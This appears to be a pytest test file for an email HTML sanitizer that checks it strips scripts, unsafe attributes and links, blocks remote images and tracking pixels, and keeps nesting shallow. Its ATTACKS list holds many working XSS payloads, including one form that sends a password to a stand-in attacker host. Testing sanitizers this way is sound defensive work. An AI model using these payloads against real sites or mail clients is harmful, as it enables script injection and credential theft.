"""HTML mail made safe: shapes of attack, images, links."""

import re
from html.parser import HTMLParser

import pytest

from folkmoot.network.mail.html import safe_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "<img srcset='https://evil.example/a.png 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x.class></applet>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background='https://evil.example/t.gif'>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href=https://e.org onclick=alert(1) style='position:fixed' id=main class=fm-fold>x</a>",
    "<a href=\"https://e.org/'onmouseover='alert(1)\">x</a>",
    '<a href="https://e.org/&quot; onmouseover=&quot;alert(1)">x</a>',
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/t.gif)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p id=content class='fm-fold'>x</p>",
    "<img name=getElementById><img id=cookie>",
    "<table background='https://evil.example/t.gif'><td background='x'>x</table>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<?xml version=1?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<b <script>alert(1)</script>0",
    "<p/onclick=alert(1)>x",
    "<img src=cid:x onerror=alert(1)>",
    "<img src=/logout>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<span class=fm-blocked-image onclick=alert(1)>x</span>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<plaintext><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]

ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height", "loading", "referrerpolicy"},
    "ol": {"start"},
    "td": {"colspan", "rowspan", "align", "valign"},
    "th": {"colspan", "rowspan", "align", "valign", "scope"},
    "span": {"class"},
    "p": {"align"},
    "div": {"align"},
}
SOUND_LINK = re.compile(r"https?://|mailto:", re.IGNORECASE)


class Inspector(HTMLParser):
    """Fails on any element, attribute or address that must not come through."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in {
            "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg",
            "math", "base", "link", "meta", "textarea", "select", "video", "audio", "template",
            "details", "marquee", "body", "noscript", "frameset", "frame", "applet", "title",
        }  # fmt: skip
        for name, value in attrs:
            assert name in ALLOWED.get(tag, set()) | {"dir", "lang"}, (tag, name)
            if name == "href":
                assert SOUND_LINK.match(value or "")
            elif name == "src":
                assert (value or "").startswith("/attachment/")
            elif name == "class":
                assert value in {"fm-blocked-image", "fm-missing-image", ""}


def attached(content_id: str) -> str:
    return f"/attachment/{len(content_id)}"


def safe(html: str, *, remote_images: bool = False) -> str:
    return safe_html(html, remote_images=remote_images, cid_url=attached).html


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<div><p>{}</p></div>", "<table><tr><td>{}</table>"])
def test_no_attack_comes_through(attack: str, around: str) -> None:
    inspector = Inspector()
    inspector.feed(safe(around.format(attack)))
    inspector.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_safe_stays_as_it_is(attack: str) -> None:
    once = safe(attack)
    inspector = Inspector()
    inspector.feed(safe(once.replace("/attachment/", "cid:")))


def test_the_inspector_can_fail() -> None:
    with pytest.raises(AssertionError):
        Inspector().feed("<img src=x onerror=alert(1)>")


def test_remote_images_wait_to_be_asked_for() -> None:
    html = '<img src="https://news.example/a.png" alt="A cat"><img src="//cdn.example/b.png">'
    safe_one = safe_html(html, remote_images=False, cid_url=attached)
    assert safe_one.blocked_images == 2
    assert "src" not in safe_one.html
    assert '<span class="fm-blocked-image">[A cat]</span>' in safe_one.html
    assert "cdn.example" in safe_one.html
    asked = safe_html(html, remote_images=True, cid_url=attached)
    assert asked.blocked_images == 0
    assert 'src="https://news.example/a.png"' in asked.html
    assert 'referrerpolicy="no-referrer"' in asked.html


def test_a_tracking_pixel_never_comes_back() -> None:
    html = '<img src="https://news.example/t.gif" width="1" height="1">x'
    assert safe(html) == "x"
    assert safe(html, remote_images=True) == "x"


def test_attached_images_are_found_by_content_id() -> None:
    seen: list[str] = []

    def url(content_id: str) -> str | None:
        seen.append(content_id)
        return "/attachment/7" if content_id == "logo@example.org" else None

    safe_one = safe_html(
        '<img src="cid:logo@example.org" alt="Logo" width=20><img src="cid:gone@x">',
        remote_images=False,
        cid_url=url,
    )
    assert seen == ["logo@example.org", "gone@x"]
    assert '<img src="/attachment/7"' in safe_one.html.replace('alt="Logo" width="20" ', "")
    assert '<span class="fm-missing-image">[gone]</span>' in safe_one.html


def test_small_data_images_stay_and_big_ones_go() -> None:
    small = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{small}"' in safe(f'<img src="{small}">')
    big = "data:image/png;base64," + "A" * 70_000
    assert "data:" not in safe(f'<img src="{big}">')


def test_links_are_told_not_to_follow() -> None:
    assert (
        safe('<a href="https://example.org/?a=1&amp;b=2">x</a>')
        == '<a href="https://example.org/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>'
    )


def test_structure_stays() -> None:
    html = "<table><tbody><tr><td colspan='2'>a</td></tr></tbody></table><ul><li>b</li></ul>"
    assert safe(html) == html.replace("'", '"')
    assert safe("<td colspan=99999>x") == "x"


@pytest.mark.parametrize(
    "piece", ["<div>", "<font x>", "<b><i></b>", '<a "', "<table>x", "<div><table></div></table>"]
)
def test_deep_soup_is_made_shallow(piece: str) -> None:
    depth = deepest = 0
    for closing in re.findall(r"<(/?)\w", safe(piece * 5_000)):
        depth += -1 if closing else 1
        deepest = max(deepest, depth)
    assert deepest < 130
